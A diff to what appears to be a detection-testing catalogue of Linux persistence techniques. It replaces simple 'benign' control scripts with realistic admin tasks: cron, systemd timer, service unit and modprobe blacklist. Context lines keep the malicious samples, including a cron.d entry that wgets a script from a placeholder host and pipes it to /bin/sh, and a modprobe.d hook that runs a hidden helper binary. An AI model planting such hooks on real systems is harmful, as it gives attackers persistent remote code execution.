@@ -88,7 +88,10 @@ export const persistence: Technique[] = [
       },
       { name: '/etc/cron.d file', script: `printf '*/5 * * * * root /usr/bin/wget -q -O- http://${INTERNET.web}/c | /bin/sh\\n' > /etc/cron.d/0sync-helper` },
     ],
-    benign: { name: 'list crontabs', script: 'crontab -l 2>/dev/null; ls /etc/cron.d >/dev/null' },
+    benign: {
+      name: 'nightly logrotate job in /etc/cron.d',
+      script: "printf '30 3 * * * root /usr/sbin/logrotate /etc/logrotate.conf\\n' > /etc/cron.d/logrotate-nightly",
+    },
   },
   {
     id: 'T1053.006',
@@ -120,7 +123,14 @@ export const persistence: Technique[] = [
         ].join('\n'),
       },
     ],
-    benign: { name: 'check a calendar expression', script: 'systemd-analyze calendar daily >/dev/null' },
+    benign: {
+      name: 'backup timer for a packaged script, checked with systemd-analyze',
+      script: [
+        "printf '[Service]\\nExecStart=/usr/bin/tar -czf /var/backups/etc.tgz /etc\\n' > /etc/systemd/system/etc-backup.service",
+        "printf '[Timer]\\nOnCalendar=daily\\n[Install]\\nWantedBy=timers.target\\n' > /etc/systemd/system/etc-backup.timer",
+        'systemd-analyze calendar daily >/dev/null',
+      ].join('\n'),
+    },
   },
   {
     id: 'T1543.002',
@@ -142,7 +152,11 @@ export const persistence: Technique[] = [
         ].join('\n'),
       },
     ],
-    benign: { name: 'read a unit', script: 'cat /lib/systemd/system/cron.service >/dev/null && systemctl is-enabled cron.service >/dev/null 2>&1; true' },
+    benign: {
+      name: 'service unit for an application in /opt',
+      script:
+        "mkdir -p /opt/app/bin && printf '[Unit]\\nDescription=App\\n[Service]\\nUser=www-data\\nExecStart=/opt/app/bin/app\\n[Install]\\nWantedBy=multi-user.target\\n' > /etc/systemd/system/app.service",
+    },
   },
   {
     id: 'T1037.004',
@@ -230,7 +244,7 @@ export const persistence: Technique[] = [
       { name: 'modules-load.d entry and modprobe', script: 'echo lab_nf_hook > /etc/modules-load.d/nf-hook.conf && (modprobe lab_nf_hook 2>/dev/null; true)' },
       { name: 'modprobe.d install hook', script: "echo 'install lab_usb_helper /bin/sh -c /var/tmp/.dbus-helper' > /etc/modprobe.d/usb-helper.conf" },
     ],
-    benign: { name: 'list modules', script: 'lsmod >/dev/null; modinfo ext4 >/dev/null 2>&1; true' },
+    benign: { name: 'driver blacklisted in modprobe.d', script: "echo 'blacklist pcspkr' > /etc/modprobe.d/blacklist-pcspkr.conf" },
   },
   {
     id: 'T1014',
